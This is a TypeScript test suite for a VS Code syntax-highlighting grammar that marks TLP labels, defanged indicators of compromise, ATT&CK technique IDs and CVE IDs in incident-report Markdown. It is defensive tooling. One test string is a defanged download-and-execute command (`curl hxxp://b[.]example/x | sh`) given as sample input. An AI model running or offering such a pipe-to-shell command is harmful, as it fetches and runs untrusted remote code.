import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import type { IGrammar, IRawGrammar, IToken, StateStack } from 'vscode-textmate';

// Both packages are CommonJS in one piece, whose names an ESM import does not find.
const require = createRequire(join(process.cwd(), 'package.json'));
const textmate = require('vscode-textmate') as typeof import('vscode-textmate');
const oniguruma = require('vscode-oniguruma') as typeof import('vscode-oniguruma');

const injection = 'markdown.incident-report.injection';
const bundled: Record<string, string> = {
  'text.html.markdown': 'markdown', 'text.html.derivative': 'html-derivative', 'text.html.basic': 'html', 'source.yaml': 'yaml', 'source.python': 'python',
};
const grammarFiles: Record<string, string> = {
  [injection]: 'syntaxes/incident-report.injection.tmLanguage.json',
  ...Object.fromEntries(Object.entries(bundled).map(([scope, name]) => [scope, `node_modules/tm-grammars/grammars/${name}.json`])),
};

/** The Markdown grammar that VS Code has, alone or with ours injected into it as package.json does. */
async function markdownGrammar(injections: string[]): Promise<IGrammar> {
  const registry = new textmate.Registry({
    onigLib: Promise.resolve({
      createOnigScanner: (patterns) => new oniguruma.OnigScanner(patterns),
      createOnigString: (text) => new oniguruma.OnigString(text),
    }),
    loadGrammar: (scope) => {
      const file = grammarFiles[scope];
      return Promise.resolve(file === undefined ? null : JSON.parse(readFileSync(file, 'utf8')) as IRawGrammar);
    },
    getInjections: (scope) => (scope === 'text.html.markdown' ? injections : []),
  });
  const grammar = await registry.loadGrammar('text.html.markdown');
  assert.ok(grammar);
  return grammar;
}

interface Coloured { readonly text: string; readonly scopes: readonly string[] }

/** Every token of a document, in order. */
function tokensOf(grammar: IGrammar, document: string): Coloured[] {
  let state: StateStack = textmate.INITIAL;
  return document.split('\n').flatMap((line) => {
    const result = grammar.tokenizeLine(line, state);
    state = result.ruleStack;
    return result.tokens.map((token: IToken) => ({ text: line.slice(token.startIndex, token.endIndex), scopes: token.scopes }));
  });
}

const ours = '.incident-report';

/** A scope of ours without what they all share: "tlp.red", "indicator.url", "technique", "vulnerability". */
function shortName(scope: string): string {
  return scope.slice(0, -ours.length).replace(/^(constant\.language|constant\.character\.escape|entity\.name\.type)\./, '');
}

/** What the grammar says of a document: "tlp.red TLP:RED" for each thing it colours, in order. */
function colouredIn(grammar: IGrammar, document: string): string[] {
  return tokensOf(grammar, document).flatMap(({ text, scopes }) => scopes.filter((scope) => scope.endsWith(ours)).map((scope) => `${shortName(scope)} ${text}`));
}

/** What a case shows, the document, and all that is coloured in it; nothing else may be. */
type Case = readonly [title: string, document: string, ...coloured: string[]];

const labels: Case[] = [
  ['each TLP 2.0 label has its own scope', 'TLP:RED TLP:AMBER+STRICT TLP:AMBER TLP:GREEN TLP:CLEAR',
    'tlp.red TLP:RED', 'tlp.amber-strict TLP:AMBER+STRICT', 'tlp.amber TLP:AMBER', 'tlp.green TLP:GREEN', 'tlp.clear TLP:CLEAR'],
  ['a label keeps clear of punctuation', '(TLP:RED), "TLP:GREEN". TLP:AMBER: TLP:CLEAR', 'tlp.red TLP:RED', 'tlp.green TLP:GREEN', 'tlp.amber TLP:AMBER', 'tlp.clear TLP:CLEAR'],
  ['an escaped plus sign is still a plus sign', 'TLP:AMBER\\+STRICT', 'tlp.amber-strict TLP:AMBER\\+STRICT'],
  ['a label in bold, in italics, struck through', '**TLP:RED** _TLP:GREEN_ ~~TLP:CLEAR~~', 'tlp.red TLP:RED', 'tlp.green TLP:GREEN', 'tlp.clear TLP:CLEAR'],
  ['a label that TLP 2.0 no longer has', 'TLP:WHITE'],
  ['words that only begin or end as a label', 'TLP:REDACTED XTLP:RED TLP:AMBER+ TLP:AMBER+STRICTER TLP:GREEN_ISH'],
  ['other ways of writing it, which FIRST does not allow', 'TLP: RED, tlp:red, TLP-RED, TLP RED'],
];

const indicators: Case[] = [
  ['hxxp in three cases', 'hxxp://a.example hXXp://b.example HXXPS://c.example', 'indicator.url hxxp://a.example', 'indicator.url hXXp://b.example', 'indicator.url HXXPS://c.example'],
  ['h**p, as it is and escaped', 'h**p://a.example/x and h\\*\\*ps://b.example', 'indicator.url h**p://a.example/x', 'indicator.url h\\*\\*ps://b.example'],
  ['a URL with port, path, query and fragment is one token', 'GET hxxps://cdn.a[.]example:8443/p_1/run[.]exe?id=7&x=%20#top now', 'indicator.url hxxps://cdn.a[.]example:8443/p_1/run[.]exe?id=7&x=%20#top'],
  ['a URL ends before the sentence does', 'From hxxp://a.example/x.php, hxxp://b[.]example/. (hxxp://c[.]example/d)', 'indicator.url hxxp://a.example/x.php', 'indicator.url hxxp://b[.]example/', 'indicator.url hxxp://c[.]example/d'],
  ['a URL ends before bold does', '**hxxp://a[.]example/x**', 'indicator.url hxxp://a[.]example/x'],
  ['a live scheme with a defanged separator or host', 'https[:]//a.example https[://]b.example/x https://c[.]example/x ftp://192.0.2[.]1/x',
    'indicator.url https[:]//a.example', 'indicator.url https[://]b.example/x', 'indicator.url https://c[.]example/x', 'indicator.url ftp://192.0.2[.]1/x'],
  ['a URL whose host is an IPv6 address', 'hxxp://[2001:db8::1]:8080/x', 'indicator.url hxxp://[2001:db8::1]:8080/x'],
  ['domains in every common way of defanging', 'a[.]example, b(.)example, c{.}example, d[dot]example, e[DOT]example, f\\[.\\]example',
    'indicator.domain a[.]example', 'indicator.domain b(.)example', 'indicator.domain c{.}example', 'indicator.domain d[dot]example', 'indicator.domain e[DOT]example', 'indicator.domain f\\[.\\]example'],
  ['a domain is defanged at one dot or at all', 'mail.a[.]example www[.]b[.]co[.]example www[.]c.example', 'indicator.domain mail.a[.]example', 'indicator.domain www[.]b[.]co[.]example', 'indicator.domain www[.]c.example'],
  ['an internationalized domain', 'bücher[.]example xn--bcher-kva[.]xn--p1ai', 'indicator.domain bücher[.]example', 'indicator.domain xn--bcher-kva[.]xn--p1ai'],
  ['a domain with port or path', 'a[.]example:443 b[.]example[:]8080 c[.]example/gate.php', 'indicator.domain a[.]example:443', 'indicator.domain b[.]example[:]8080', 'indicator.domain c[.]example/gate.php'],
  ['IPv4 addresses, ports and networks', '192.0.2[.]1 192[.]0[.]2[.]2 192.0[.]2.3:443 198[.]51[.]100[.]0/24', 'indicator.ip 192.0.2[.]1', 'indicator.ip 192[.]0[.]2[.]2', 'indicator.ip 192.0[.]2.3:443', 'indicator.ip 198[.]51[.]100[.]0/24'],
  ['IPv6 addresses', '2001[:]db8[::]1 and 2001:db8[:]:1/64', 'indicator.ip 2001[:]db8[::]1', 'indicator.ip 2001:db8[:]:1/64'],
  ['e-mail addresses', 'a@b[.]example c[@]d.example e[at]f[dot]example g.h[@]i[.]example j[.]k@l[.]example',
    'indicator.email a@b[.]example', 'indicator.email c[@]d.example', 'indicator.email e[at]f[dot]example', 'indicator.email g.h[@]i[.]example', 'indicator.email j[.]k@l[.]example'],
  ['indicators in angle brackets, which Markdown takes for HTML tags', 'From <a@b[.]example> by <hxxps://c[.]example/d>', 'indicator.email a@b[.]example', 'indicator.url hxxps://c[.]example/d'],
  ['an indicator after a label, in quotes, in brackets', 'Domain:a[.]example "b[.]example" [c[.]example] @d[.]example', 'indicator.domain a[.]example', 'indicator.domain b[.]example', 'indicator.domain c[.]example', 'indicator.domain d[.]example'],
  ['live addresses are not ours to colour', 'https://a.example/x http://192.0.2.1 a@b.example 192.0.2.1 a.example'],
  ['words about defanging', 'We write hxxp, hxxps:// and [.] or [dot], (at) and [:] in reports. The ".ru" zone is “[.]ru”.'],
  ['code in prose', 'arr[.] arr[:] f(.) x[1].y {{.}} a[:]b[:]c ^(.)$ [...] e.g.[...] word[.] Next'],
  ['numbers in prose', 'Versions 1[.]2[.]3 and 1.2.3; sections 4.1[.]; 1[.]2[.]3[.]4[.]5'],
  ['footnotes and links', 'As said[^1] and[^note.2]. See [docs](a.md), [x][y.z], [y.z] and ![i](i.png).\n\n[^1]: A note.\n[y.z]: a.md'],
];

const identifiers: Case[] = [
  ['techniques and sub-techniques', 'T1566, T1566.001 and T0800.', 'technique T1566', 'technique T1566.001', 'technique T0800'],
  ['a technique in brackets, quotes, bold and italics', '(T1566) "T1078" **T1059** _T1105_ *T1021.001*', 'technique T1566', 'technique T1078', 'technique T1059', 'technique T1105', 'technique T1021.001'],
  ['several with slashes between them', 'T1078/T1078.004 by CVE-2023-46805/CVE-2024-21887', 'technique T1078/T1078.004', 'vulnerability CVE-2023-46805/CVE-2024-21887'],
  ['a CVE id has four to nineteen digits', 'CVE-2024-3094 CVE-2021-44228 cve-2014-0160 CVE-2024-1234567890123456789', 'vulnerability CVE-2024-3094', 'vulnerability CVE-2021-44228', 'vulnerability cve-2014-0160', 'vulnerability CVE-2024-1234567890123456789'],
  ['numbers that are no technique', 'T10000 T156 T1566.01 T1566.0011 T9999 t1566'],
  ['numbers that are no CVE', 'CVE-2024-309 CVE-24-3094 CVE-2024 CVE-2024-12345678901234567890 CVE-1024-3094'],
  ['part of a longer word', 'XT1566 T1566a ABC-T1566 T1566-based T1566_x x_T1566 T1566.md XCVE-2024-3094 CVE-2024-3094-poc CVE-2024-3094.yar'],
  ['part of a URL or a path', 'https://a.example/techniques/T1566/001/ https://a.example/CVE-2024-3094 a.example/?id=T1566&x=T1078 atomics/T1566.md#T1566 C:\\T1566\\x T1566/001'],
];

const places: Case[] = [
  ['headings', '## T1566 by a[.]example (TLP:RED)', 'technique T1566', 'indicator.domain a[.]example', 'tlp.red TLP:RED'],
  ['setext headings', 'About T1566\n===========', 'technique T1566'],
  ['lists, nested, numbered, with tasks', '- a[.]example\n  1. T1566 - phishing\n- [ ] block hxxp://b.example', 'indicator.domain a[.]example', 'technique T1566', 'indicator.url hxxp://b.example'],
  ['quotes', '> TLP:GREEN\n> > T1566', 'tlp.green TLP:GREEN', 'technique T1566'],
  ['tables', '| a[.]example | `b[.]example` |\n|---|---|\n| T1566 | text |', 'indicator.domain a[.]example', 'indicator.domain b[.]example', 'technique T1566'],
  ['tables without spaces', '|a[.]example|`b[.]example`|\n|---|---|\n|T1566|TLP:RED|', 'indicator.domain a[.]example', 'indicator.domain b[.]example', 'technique T1566', 'tlp.red TLP:RED'],
  ['inline code, also at the start of an item', '- `a[.]example`, `curl hxxp://b[.]example/x | sh` and `T1566`', 'indicator.domain a[.]example', 'indicator.url hxxp://b[.]example/x', 'technique T1566'],
  ['text of a link, but not where it goes', '[T1566](https://a.example/T1566) [a[.]example](hxxp://a[.]example/)', 'technique T1566', 'indicator.domain a[.]example'],
  ['link definitions and autolinks', '[x]: hxxp://a[.]example/T1566\n\n<https://a.example/T1566>'],
  ['text in HTML, but no tags', 'see <b>T1566</b> and <a href="hxxp://a[.]example/T1078">this</a>', 'technique T1566'],
  ['comments, in a line and on their own', 'Text <!-- TLP:RED T1566 --> goes on\n\n<!--\na[.]example\n-->'],
  ['fenced code, whatever its language', '```\nT1566 a[.]example\n```\n\n~~~python\nprint("TLP:RED")\n~~~\n\n- x\n\n  ```yaml\n  a: T1566\n  ```'],
  ['fenced Markdown, which is Markdown again', '```markdown\nT1566 a[.]example\n```'],
  ['indented code', 'Text\n\n    T1566 a[.]example'],
  ['an unclosed code span is text', 'a ` b T1566', 'technique T1566'],
  ['front matter: values, but no keys and comments', '---\ntlp: "TLP:AMBER" # TLP:RED\nT1566: x\ntitle: By hxxp://a.example and T1078\n---\n', 'tlp.amber TLP:AMBER', 'indicator.url hxxp://a.example', 'technique T1078'],
];

describe('injection grammar', () => {
  let grammar: IGrammar;
  let plain: IGrammar;

  before(async () => {
    await oniguruma.loadWASM(readFileSync('node_modules/vscode-oniguruma/release/onig.wasm'));
    grammar = await markdownGrammar([injection]);
    plain = await markdownGrammar([]);
  });

  const groups: Record<string, Case[]> = { 'TLP labels': labels, 'defanged indicators': indicators, 'ATT&CK and CVE ids': identifiers, 'where it colours': places };
  for (const [group, cases] of Object.entries(groups)) {
    describe(group, () => {
      for (const [title, document, ...coloured] of cases) it(title, () => { assert.deepEqual(colouredIn(grammar, document), coloured); });
    });
  }

  it('gives the scopes that themes colour', () => {
    const scopes = tokensOf(grammar, 'TLP:RED a[.]example T1566 CVE-2024-3094').flatMap((token) => token.scopes.filter((scope) => scope.endsWith(ours)));
    assert.deepEqual(scopes, [
      'constant.language.tlp.red.incident-report', 'constant.character.escape.indicator.domain.incident-report',
      'entity.name.type.technique.incident-report', 'entity.name.type.vulnerability.incident-report',
    ]);
  });

  describe('leaves to Markdown what is Markdown\'s', () => {
    /** Tokens without our scopes, and neighbours with the same scopes joined: what Markdown itself would have said. */
    function withoutOurs(tokens: Coloured[]): string[] {
      const kept: { text: string; scopes: string }[] = [];
      for (const { text, scopes } of tokens) {
        const rest = scopes.filter((scope) => !scope.endsWith(ours)).join(' ');
        const last = kept.at(-1);
        if (last?.scopes === rest) last.text += text;
        else kept.push({ text, scopes: rest });
      }
      return kept.map(({ text, scopes }) => `${text}: ${scopes}`);
    }

    // Defanged with round brackets: Markdown alone takes [.] for a link to a reference named ".", which nobody misses.
    const documents = [
      '**TLP:RED** and *a(.)example* end ~~here T1566~~ **b**',
      'Code `a(.)example`, `a` and ``b[.]example ` c`` and **`T1566`** \\`T1566\\` ` T1566',
      '|T1566 **bold**|`T1566` *it*|\n|---|:-:|\n| a(.)example **b** | `T1566` |\n|TLP:RED|x|',
      '- TLP:RED - not a list\n- T1566\n  # heading\n1. `a(.)example`\n   > quote',
      'TLP:RED # not a heading\n===\n\n## a(.)example `T1566` ##',
      '[T1566 **b**](x "t") ![a(.)example](y.png) [r][T1566] [T1566]\n\n[T1566]: https://a.example',
      'TLP:RED\n\n```js\nT1566\n```\nT1566\n\n    T1566\n\ntext',
    ];
    for (const document of documents) {
      it(JSON.stringify(document), () => { assert.deepEqual(withoutOurs(tokensOf(grammar, document)), withoutOurs(tokensOf(plain, document))); });
    }
  });

  // No time is asserted: a rule that took time in the square of the line's length would meet mocha's own limit.
  describe('lines of 100 KB that mean no good', () => {
    const units = ['a.', '[.]', 'T1', 'hxxp', 'a[.]', 'a[.]b ', 'hxxp://', 'a@', '1[.]', '2001[:]', 'T1566 ', 'T1566/', '`T1566` ', '|a', '|T1566', '<hxx', 'a_', '://', 'hxxp://a/[.]'];
    for (const unit of units) {
      it(`${unit} again and again`, function () {
        this.timeout(20_000);
        const line = unit.repeat(Math.ceil(100_000 / unit.length));
        // Markdown reads a row again for each of its cells, whatever we do: rows are shorter.
        for (const text of [line, `| ${line.slice(0, 10_000)} |`]) assert.equal(grammar.tokenizeLine(text, textmate.INITIAL, 15_000).stoppedEarly, false);
      });
    }
  });
});
